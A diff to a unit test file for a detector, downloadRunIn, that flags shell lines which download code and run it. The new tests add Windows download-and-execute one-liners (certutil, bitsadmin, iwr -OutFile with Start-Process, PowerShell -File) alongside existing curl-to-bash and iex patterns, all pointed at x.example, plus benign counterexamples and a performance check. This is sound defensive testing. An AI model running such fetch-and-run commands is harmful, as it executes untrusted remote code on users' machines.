@@ -26,6 +26,11 @@ describe("downloadRunIn", () => {
     expect(downloadRunIn("curl -sSLO https://x.example/dist/setup.sh && bash setup.sh")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("curl -s https://x.example/i | sudo -E bash -s -- --quiet 2>&1")).toBe("a download piped into a shell");
     expect(downloadRunIn("iex (iwr -UseBasicParsing https://x.example/a)")).toBe("PowerShell running a downloaded string");
+    // Windows' downloaders and PowerShell's -OutFile, then the file run by cmd's start, Start-Process or by name.
+    expect(downloadRunIn("certutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("bitsadmin /transfer job /download /priority high https://x.example/u.exe C:\\Users\\Public\\u.exe & C:\\Users\\Public\\u.exe")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("iwr https://x.example/s.exe -OutFile s.exe; Start-Process .\\s.exe")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn('powershell -c "Invoke-WebRequest -Uri https://x.example/p.ps1 -OutFile $env:TEMP\\p.ps1; powershell -File $env:TEMP\\p.ps1"')).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toBe("PowerShell running a downloaded string");
   });
 
@@ -47,6 +52,9 @@ describe("downloadRunIn", () => {
       "git fetch --dry-run 2>&1 | node ./bin/parse-refs.js",
       "wget -q https://x.example/data.csv && wc -l data.csv",
       "curl -sSLO https://x.example/app.tar.gz && tar xzf app.tar.gz",
+      "certutil -urlcache -split -f https://x.example/data.csv data.csv && type data.csv",
+      "certutil -hashfile setup.exe SHA256 && start setup.exe",
+      "iwr https://x.example/r.zip -OutFile r.zip; Expand-Archive r.zip",
     ]) {
       expect(downloadRunIn(line), line).toBeUndefined();
     }
@@ -55,6 +63,7 @@ describe("downloadRunIn", () => {
   it("searches a line of thousands of downloads in linear time", () => {
     expect(downloadRunIn("curl x ".repeat(10_000))).toBeUndefined();
     expect(downloadRunIn("curl -o f x; ".repeat(5_000))).toBeUndefined();
+    expect(downloadRunIn("certutil -urlcache bitsadmin /transfer ".repeat(1_500))).toBeUndefined();
   });
 });
 
